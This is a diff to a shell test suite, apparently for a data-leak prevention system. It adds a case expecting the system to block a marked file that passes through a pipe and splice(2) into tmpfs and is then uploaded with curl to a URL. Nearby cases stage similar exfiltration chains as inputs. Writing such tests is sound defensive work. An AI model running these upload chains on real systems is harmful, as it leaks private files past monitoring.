@@ -79,6 +79,10 @@ denied pipe-blocked "(sleep 3; cat '$f') | $C -T - $URL"
 # reading the destination after, is tainted. Before round 13 the roster went out.
 [ -x "$bin/pipe-feed" ] || fail "no pipe-feed (guest/pipe-feed.c needs gcc in the guest)"
 denied tee-wait "(sleep 1; exec cat '$f') | '$bin/pipe-feed' --tee | (sleep 3; exec $C -T - $URL)"
+# The same wait in a splice(2) from the pipe into a file (round 13): the file's write check
+# ran before the data came, so it takes a pending number the splice's return resolves to the
+# pipe's mark; curl uploading the file (on the tmpfs fanotify does not watch) is refused.
+denied splice-file-wait "(sleep 1; exec cat '$f') | '$bin/pipe-feed' --splice-file '$shm/spliced.txt' && grep -q $MARKER '$shm/spliced.txt' && $C -T '$shm/spliced.txt' $URL"
 # A reader that reads once, and says when it waits: python3 connects, sends its header and
 # blocks in read(0) before the writer starts; its one read returns the content, then it
 # sends. Without fexit/pipe_read the listener received it.
